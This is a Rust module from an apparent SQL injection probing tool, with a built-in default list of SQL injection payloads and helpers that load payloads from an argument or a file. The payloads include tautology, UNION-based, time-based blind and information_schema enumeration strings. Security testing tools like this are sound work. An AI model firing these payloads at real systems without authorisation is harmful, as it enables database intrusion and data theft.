use std::path::Path;

use crate::errors::ProbeError;

/// Used when neither `--payloads` nor `--payloads-file` is given.
pub const DEFAULT_PAYLOADS: &[&str] = &[
    "' OR '1'='1--",
    "' AND '1'='2",
    "' UNION SELECT NULL--",
    "' UNION SELECT 1,2,3--",
    "' OR SLEEP(5)--",
    "' OR BENCHMARK(1000000,MD5(1))--",
    "' AND 1=2 UNION SELECT NULL,NULL,NULL--",
    "' AND 1=2 UNION SELECT table_name FROM information_schema.tables--",
    "' AND 1=2 UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--",
];

/// Comma-separated list. Payloads that themselves contain commas must
/// come from a file.
pub fn parse_payload_list(list: &str) -> Vec<String> {
    list.split(',')
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(String::from)
        .collect()
}

/// One payload per line; blank lines are ignored.
pub fn parse_payload_lines(content: &str) -> Vec<String> {
    content.lines()
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(String::from)
        .collect()
}

/// Inline payloads first, then file payloads; the defaults when both are absent.
pub async fn collect_payloads(list: Option<&str>, file: Option<&Path>) -> Result<Vec<String>, ProbeError> {
    if list.is_none() && file.is_none() {
        return Ok(DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect());
    }

    let mut payloads = list.map(parse_payload_list).unwrap_or_default();
    if let Some(path) = file {
        let content = match tokio::fs::read_to_string(path).await {
            Ok(content) => content,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Err(ProbeError::InvalidInvocation(format!(
                    "Payload file not found: {}", path.display()
                )));
            }
            Err(e) => return Err(e.into()),
        };
        payloads.extend(parse_payload_lines(&content));
    }

    if payloads.is_empty() {
        return Err(ProbeError::InvalidInvocation("No payloads supplied".into()));
    }
    Ok(payloads)
}
